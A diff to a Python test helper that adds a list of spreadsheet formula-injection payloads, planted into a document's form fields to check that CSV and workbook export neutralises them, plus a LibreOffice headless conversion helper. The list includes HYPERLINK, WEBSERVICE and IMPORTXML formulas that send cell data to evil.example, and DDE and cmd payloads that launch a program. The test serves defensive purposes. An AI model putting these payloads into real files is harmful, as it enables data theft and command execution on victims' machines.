@@ -101,6 +101,40 @@ def temp_dir():
     return directory
 
 
+# What a hostile sender puts in a workbook: every one of these runs as a formula in a
+# spreadsheet program if the CSV carries it as it is.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1;"详情")',
+    '=WEBSERVICE("http://evil.example/steal")',
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"A1")',
+    '=1+1',
+    '+1+1',
+    '-1+1',
+    '@SUM(1;1)',
+    '\t=1+1',
+    '\r=1+1',
+    "-2+3+cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=";A2);"//a")',
+]
+# Texts that are numbers stay numbers.
+NUMBERS = ['-5', '+2.5', '-10%']
+
+
+def hostile_document(document):
+    form = document['forms'][3]
+    form['name'] = HOSTILE[0]
+    form['goals'][0]['text'] = HOSTILE[1]
+    texts = HOSTILE[1:] + NUMBERS
+    indicators = form['goals'][0]['indicators']
+    for i, indicator in enumerate(indicators):
+        indicator['name'] = texts[i % len(texts)]
+        indicator['target'] = texts[(i + 3) % len(texts)]
+        indicator['actual'] = texts[(i + 6) % len(texts)]
+        indicator['deviation-note'] = texts[(i + 9) % len(texts)]
+    document['forms'] = [form]
+
+
 LO_RECALC = '''<?xml version="1.0" encoding="UTF-8"?>
 <oor:items xmlns:oor="http://openoffice.org/2001/registry"
            xmlns:xs="http://www.w3.org/2001/XMLSchema"
@@ -141,3 +175,24 @@ def libreoffice_sheets(xlsx, directory):
         print(f'FAIL: LibreOffice converted nothing: {result.stdout} {result.stderr}', file=sys.stderr)
         sys.exit(1)
     return sheets
+
+
+def libreoffice_convert(source, directory, fmt, infilter=None):
+    """source converted by LibreOffice headless (a fresh profile for each run) into fmt,
+    read with the import filter options infilter when given; returns the new file's path."""
+    soffice = tool('soffice')
+    profile = tempfile.mkdtemp(prefix='lo-profile-', dir=directory)
+    outdir = tempfile.mkdtemp(prefix='lo-out-', dir=directory)
+    env = {k: v for k, v in os.environ.items() if k not in ('G_DEBUG', 'MALLOC_CHECK_')}
+    command = [soffice, '--headless', '-env:UserInstallation=file://' + profile]
+    if infilter is not None:
+        command.append('--infilter=' + infilter)
+    command += ['--convert-to', fmt, '--outdir', outdir, source]
+    result = subprocess.run(command, capture_output=True, text=True, timeout=180, env=env)
+    stem = os.path.splitext(os.path.basename(source))[0]
+    out = os.path.join(outdir, stem + '.' + fmt)
+    if not os.path.exists(out):
+        print(f'FAIL: LibreOffice did not convert {source}: {result.stdout} {result.stderr}',
+              file=sys.stderr)
+        sys.exit(1)
+    return out
